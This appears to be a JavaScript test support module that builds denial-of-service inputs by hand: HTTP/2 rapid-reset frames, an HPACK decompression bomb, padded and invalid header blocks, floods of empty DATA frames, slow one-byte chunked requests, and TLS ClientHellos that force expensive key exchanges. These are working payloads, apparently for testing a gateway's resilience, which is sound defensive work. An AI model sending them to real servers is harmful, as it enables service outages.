// The bytes of the attacks, made by hand: no library would send them.
import { randomBytes } from 'node:crypto';
import { importSupport } from '../support.mjs';

export const { block, frame, uint32 } = await importSupport('http2-frames');

/** RFC 9113 section 3.4, and the empty SETTINGS that must follow it. */
export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);

export const BACKCHANNEL_MAGIC = Buffer.from('backchannel');

/** A header block in one byte: `:method: GET` of the static table. */
export const SMALLEST_BLOCK = Buffer.from([0x82]);

/**
 * HEADERS with END_HEADERS.
 * @param {number} streamId
 * @param {Uint8Array} [block]
 */
export function headers(streamId, block = SMALLEST_BLOCK) {
  return frame(1, 4, streamId, block);
}

/**
 * HEADERS immediately followed by RST_STREAM(CANCEL).
 * @param {number} streamId
 * @param {Uint8Array} [block]
 */
export function rapidReset(streamId, block) {
  return Buffer.concat([headers(streamId, block), frame(3, 0, streamId, uint32(8))]);
}

/**
 * A field without indexing whose value is empty; its length takes seven bytes, six of them padding. Go accepts it.
 * RFC 7541 section 5.1 sets no limit on the number of bytes.
 */
export const PADDED_INTEGER_BLOCK = Buffer.concat([
  SMALLEST_BLOCK,
  Buffer.from([0x00, 0x01, 0x61, 0x7f, 0x80, 0x80, 0x80, 0x80, 0x80, 0x00]),
  Buffer.alloc(127, 'b'),
]);

/**
 * One yamux frame.
 * @param {number} type
 * @param {number} flags
 * @param {number} streamId
 * @param {number} length
 * @param {Uint8Array} [payload]
 */
export function yamux(type, flags, streamId, length, payload = new Uint8Array()) {
  const header = Buffer.alloc(12);
  header.writeUInt8(type, 1);
  header.writeUInt16BE(flags, 2);
  header.writeUInt32BE(streamId, 4);
  header.writeUInt32BE(length, 8);
  return Buffer.concat([header, payload]);
}

/**
 * A yamux data frame that opens its stream.
 * @param {number} streamId
 * @param {Uint8Array} payload
 */
export function yamuxOpen(streamId, payload) {
  return yamux(0, 1, streamId, payload.length, payload);
}

/** A field of 3 kB that is added to the table, and 5000 one-byte references to it: 15 MB. */
export const BOMB = Buffer.concat([
  Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x16]),
  Buffer.alloc(2944, 'b'),
  Buffer.alloc(5000, 0xbe),
]);

/** A reference to an entry of the table that does not exist, so that no later block can be followed. */
export const INVALID_BLOCK = Buffer.from([0xff, 0xff, 0x7f]);

/** DATA frames of stream 1 that contain nothing but padding. */
export const EMPTY_DATA = Array.from({ length: 20_000 }, () => frame(0, 8, 1, Buffer.from([0])));

/** The path of a request to the gate whose content comes in pieces of one byte. */
const TINY_PATH = '/api/v4/internal/post_receive';

/** A request over HTTP/1.1 with chunks of one byte, in pieces of 60 kB. */
export const TINY_CHUNKS = [
  Buffer.from(`POST ${TINY_PATH} HTTP/1.1\r\nhost: gate\r\ntransfer-encoding: chunked\r\n\r\n`),
  ...Array.from({ length: 20 }, () => Buffer.from('1\r\nx\r\n'.repeat(10_000))),
];

/** Ten requests over HTTP/2 with DATA frames of one byte, as much content as the initial window of the connection allows. */
export const TINY_FRAMES = [PREFACE, ...Array.from({ length: 10 }, (_, index) => tinyRequest(2 * index + 1))];

/** @param {number} streamId */
function tinyRequest(streamId) {
  // `:method: POST` and `:scheme: https` of the static table.
  const fields = Buffer.concat([
    Buffer.from([0x83, 0x87]),
    block({ ':path': TINY_PATH, ':authority': 'gate' }),
  ]);
  const content = Array.from({ length: 6000 }, () => frame(0, 0, streamId, Buffer.from('x')));
  return Buffer.concat([headers(streamId, fields), ...content]);
}

/** RFC 7919: finite-field groups, with the bytes of a key share; X448 and P-521. */
const EXPENSIVE_GROUPS = [
  { group: 0x0104, bytes: 1024 },
  { group: 0x0103, bytes: 768 },
  { group: 0x0102, bytes: 512 },
  { group: 0x0101, bytes: 384 },
  { group: 0x0100, bytes: 256 },
  { group: 0x001e, bytes: 56 },
  { group: 0x0019, bytes: 133 },
];

/**
 * A TLS 1.3 ClientHello with a single group. Any number below the prime is a key share that costs the server two
 * exponentiations.
 * @param {number} index which group, the most expensive first
 */
export function expensiveHello(index) {
  const { group, bytes } = EXPENSIVE_GROUPS[index % EXPENSIVE_GROUPS.length] ?? { group: 0, bytes: 0 };
  const share = randomBytes(bytes);
  share.writeUInt8(0x7f, 0);
  return clientHello([
    extension(10, vector(2, uint16(group))),
    extension(51, vector(2, Buffer.concat([uint16(group), vector(2, share)]))),
  ]);
}

/** @param {readonly Buffer[]} extensions besides the versions, the signature algorithms and ALPN */
function clientHello(extensions) {
  const all = Buffer.concat([
    extension(43, vector(1, uint16(0x0304))),
    extension(13, vector(2, Buffer.concat([uint16(0x0403), uint16(0x0804), uint16(0x0401)]))),
    extension(16, vector(2, vector(1, Buffer.from('h2')))),
    ...extensions,
  ]);
  const body = Buffer.concat([
    uint16(0x0303),
    randomBytes(32),
    vector(1, randomBytes(32)),
    vector(2, Buffer.concat([uint16(0x1301), uint16(0x1302), uint16(0x1303)])),
    vector(1, Buffer.from([0])),
    vector(2, all),
  ]);
  const message = Buffer.concat([Buffer.from([1, 0]), vector(2, body)]);
  return Buffer.concat([Buffer.from([22, 3, 1]), vector(2, message)]);
}

/**
 * @param {number} type
 * @param {Buffer} data
 */
function extension(type, data) {
  return Buffer.concat([uint16(type), vector(2, data)]);
}

/**
 * Bytes with a length prefix.
 * @param {1 | 2} lengthBytes
 * @param {Uint8Array} bytes
 */
function vector(lengthBytes, bytes) {
  const length = Buffer.alloc(lengthBytes);
  length.writeUIntBE(bytes.length, 0, lengthBytes);
  return Buffer.concat([length, bytes]);
}

/** @param {number} value */
function uint16(value) {
  return Buffer.from([value >>> 8, value & 0xff]);
}
